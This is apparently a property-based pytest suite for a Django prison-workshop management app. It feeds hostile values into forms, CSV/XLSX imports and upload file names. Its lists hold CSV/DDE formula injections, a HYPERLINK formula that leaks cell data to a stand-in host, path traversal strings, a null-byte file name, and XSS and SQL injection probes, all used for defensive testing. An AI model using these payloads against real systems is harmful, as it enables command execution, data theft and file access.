"""Hostile input on the staff pages: random and malicious values in every field of every form
that creates a record, in the SDP import (CSV and XLSX) and in the file names of uploads. No
answer is a server error, and a refused input writes nothing (the registry, the record counts
and the audit log are unchanged). The one spreadsheet Karya writes, the monthly report, neither
runs a formula a user typed nor breaks on a control character.

Property-based (hypothesis): a bounded number of generated examples per form."""

import io
import re

import pytest
from django.apps import apps
from django.urls import reverse
from django_scopes import scopes_disabled
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from karya.audit.models import AuditEntry
from karya.core.spreadsheets import FORMULA_STARTS, safe_cell
from karya.inmates.tests.sdp import registry_state, sdp_csv, sdp_row

pytestmark = pytest.mark.django_db

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)"]
HOSTILE = st.one_of(
    st.text(max_size=40),  # any Unicode, NUL and control characters included
    st.sampled_from(
        [
            *FORMULAS,
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "9" * 40,
            "-" + "9" * 30,
            "1e309",
            "NaN",
            "2026-02-30",
            "31/13/2026",
            "<script>alert(1)</script>",
            "' OR 1=1 --",
            "\x00",
            "Rp 1.000.000.000.000.000.000",
        ]
    ),
    st.characters().map(lambda c: c * 3000),
    st.integers().map(str),
)
FILE_NAMES = st.sampled_from(
    [
        "../../etc/passwd",
        "..\\..\\sdp.csv",
        "/etc/passwd.csv",
        "sdp.csv\x00.exe",
        "a" * 300 + ".csv",
        "sdp.csv/../../x.xlsx",
        "ＳＤＰ.csv",
        "sdp",
        ".csv",
    ]
)
SETTINGS = settings(
    max_examples=12,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
# The unit's pages that create a record: (route name, the model they write).
CREATE_PAGES = [
    ("inmates:create", "inmates.Inmate"),
    ("programs:workshop-create", "programs.Workshop"),
    ("programs:training-create", "programs.Training"),
    ("programs:tool-create", "programs.Tool"),
    ("production:product-create", "production.Product"),
    ("production:material-create", "production.Material"),
    ("partners:partner-create", "partners.Partner"),
    ("inventory:location-create", "inventory.StockLocation"),
    ("sales:handover-create", "sales.Handover"),
    ("sales:order-create", "sales.CustomerOrder"),
    ("newsroom:event-create", "newsroom.Event"),
    ("finance:deposit-create", "finance.PnbpDeposit"),
]
FIELD = re.compile(r'<(?:input|select|textarea)[^>]*\bname="([^"]+)"')


@pytest.fixture
def staff(facility, make_user, login, national_split_rule):
    """A user holding every working role of the unit, logged in."""
    from karya.tests.factories import grant

    user = make_user("head", facility=facility)
    for role in ("officer", "output_officer", "treasurer", "pr"):
        grant(user, role, facility=facility)
    return login(user)


def _count(label: str) -> int:
    with scopes_disabled():
        return apps.get_model(label).objects.count()


@pytest.mark.parametrize(("name", "label"), CREATE_PAGES)
def test_a_create_form_refuses_hostile_values_and_writes_nothing(staff, facility, name, label):
    url = reverse(name, kwargs={"facility_code": facility.code})
    page = staff.get(url)
    assert page.status_code == 200
    fields = sorted(set(FIELD.findall(page.content.decode())) - {"csrfmiddlewaretoken"})
    assert fields, f"{url} shows no field"

    @given(values=st.fixed_dictionaries({field: HOSTILE for field in fields}))
    @SETTINGS
    def post(values):
        before = (_count(label), AuditEntry.objects.count())
        response = staff.post(url, values)
        assert response.status_code in (200, 302, 400), f"{url} → {response.status_code}"
        if response.status_code != 302:  # refused: the form is shown again with its errors
            assert (_count(label), AuditEntry.objects.count()) == before

    post()


@given(
    cells=st.lists(st.tuples(HOSTILE, HOSTILE, HOSTILE), min_size=1, max_size=4),
    name=FILE_NAMES,
)
@SETTINGS
def test_an_sdp_csv_with_hostile_cells_is_refused_whole(staff, facility, cells, name):
    rows = [sdp_row(number, nama=nama, klasifikasi=kelas) for number, nama, kelas in cells]
    rows.append(sdp_row("", nama=""))  # one row always bad: the whole file must be refused
    before = registry_state()
    upload = _upload(name, sdp_csv(rows))
    response = staff.post(reverse("inmates:import", args=[facility.code]), {"file": upload})
    assert response.status_code in (200, 400)
    assert registry_state() == before


@given(
    cells=st.lists(st.tuples(HOSTILE, HOSTILE), min_size=1, max_size=4),
    name=FILE_NAMES.map(lambda n: n.replace(".csv", ".xlsx")),
)
@SETTINGS
def test_an_sdp_xlsx_with_hostile_cells_is_refused_whole(staff, facility, cells, name):
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = Workbook()
    sheet = book.active
    sheet.append(["no_registrasi", "nama", "jenis_kelamin", "status", "klasifikasi"])
    for number, nama in cells:  # formulas stay formulas in the file: the import must not run them
        sheet.append(
            [ILLEGAL_CHARACTERS_RE.sub("", number), ILLEGAL_CHARACTERS_RE.sub("", nama)]
            + ["L", "Narapidana", "Medium"]
        )
    sheet.append(["", "", "X", "?", "?"])
    out = io.BytesIO()
    book.save(out)
    before = registry_state()
    response = staff.post(
        reverse("inmates:import", args=[facility.code]), {"file": _upload(name, out.getvalue())}
    )
    assert response.status_code in (200, 400)
    assert registry_state() == before


@given(content=st.binary(max_size=2000), name=FILE_NAMES)
@SETTINGS
def test_an_import_of_random_bytes_is_refused(staff, facility, content, name):
    before = registry_state()
    response = staff.post(
        reverse("inmates:import", args=[facility.code]), {"file": _upload(name, content)}
    )
    assert response.status_code in (200, 400)
    assert registry_state() == before


def _upload(name: str, content: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


@given(name=FILE_NAMES)
@SETTINGS
def test_an_upload_s_file_name_never_names_where_it_is_stored(name):
    from types import SimpleNamespace

    from karya.newsroom.models import event_photo_path
    from karya.partners.models import document_path, visit_photo_path
    from karya.production.models.catalogue import photo_path
    from karya.sales.models.handovers import handover_photo_path

    unit = SimpleNamespace(facility=SimpleNamespace(code="LPPWT"))
    for path_of in (document_path, visit_photo_path, handover_photo_path, event_photo_path,
                    photo_path):  # fmt: skip
        stored = path_of(unit, name)
        folder, _sep, file_name = stored.rpartition("/")
        assert folder.count("/") == 1 and folder.lower().endswith("/lppwt"), stored
        assert re.fullmatch(r"[0-9a-f]{32}\.[a-z0-9]{1,5}", file_name), stored


@given(text=st.one_of(st.text(), st.sampled_from(FORMULAS)))
@settings(max_examples=200, deadline=None, derandomize=True, database=None)
def test_a_cell_never_starts_a_formula_and_always_fits_a_sheet(text):
    from openpyxl import Workbook

    value = safe_cell(text)
    assert not value.startswith(FORMULA_STARTS)
    cell = Workbook().active.cell(row=1, column=1, value=value)  # raises on an illegal one
    assert cell.data_type == "s" or value == ""


def test_the_monthly_report_shows_a_typed_formula_as_text(staff, facility, make_user):
    """A product listed on the e-Katalog under a name that is a formula: the XLSX holds it as
    text, with the apostrophe that keeps a spreadsheet program from running it."""
    from openpyxl import load_workbook

    from karya.production.models import Product

    with scopes_disabled():
        Product.objects.create(
            facility=facility,
            name=FORMULAS[0],
            category="kerajinan",
            unit_of_measure="buah",
            ekatalog_listed=True,
            ekatalog_reference='=HYPERLINK("http://x.example")\x07',
        )
    response = staff.get(reverse("reports:unit-xlsx", args=[facility.code]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + FORMULAS[0] in texts
    assert '\'=HYPERLINK("http://x.example")' in texts
